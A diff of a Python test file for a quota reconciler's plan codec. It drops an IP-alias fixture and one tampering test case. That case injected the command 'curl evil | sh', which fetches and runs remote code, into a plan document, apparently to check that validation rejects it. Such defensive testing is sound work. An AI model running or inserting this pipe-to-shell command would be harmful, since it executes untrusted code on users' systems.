@@ -7,8 +7,6 @@ import pytest
 
 from reconciler.codecs.plan import plan_document, read_preview
 from reconciler.errors import ConfigError, StalePlan
-from reconciler.quota.entity import entity
-from reconciler.quota.ip_aliases import IpAlias
 from reconciler.quota.planner.desired_state import DeclarationConflict
 from reconciler.quota.precedence import UnrankedLimit
 from reconciler.render.json_values import dump
@@ -22,18 +20,11 @@ def again(preview):
 
 
 def torn():
-    """Conflicts, ip aliases and a snapshot."""
+    """Conflicts and a snapshot."""
     claims = (declare(ALICE, {RATE: 1.0}), declare(ALICE, {RATE: 2.0}, document="other/alice"))
     plan = replace(
         sample().plan,
         conflicts=(DeclarationConflict(entity=ALICE, key=RATE, claims=claims),),
-        ip_aliases=(
-            IpAlias(
-                entity=entity(ip="::1"),
-                live=entity(ip="0:0:0:0:0:0:0:1"),
-                keys=("connection_creation_rate",),
-            ),
-        ),
     )
     return replace(sample(), plan=plan, snapshot_at=NOW - 90_000)
 
@@ -72,7 +63,6 @@ LIES = {
     "a hidden rule without a value": lambda d: d["impact"]["hiding"][0]["rules"][0].update(
         value=None
     ),
-    "another command for a twin": lambda d: d["twins"][0].update(removal="curl evil | sh"),
     "an effect left out": lambda d: d["changes"][0].pop("effect"),
     "an unknown direction": lambda d: d["changes"][0]["effect"].update(direction="up"),
     "a moved bucket that does not move": lambda d: d["impact"]["affected"][0].update(
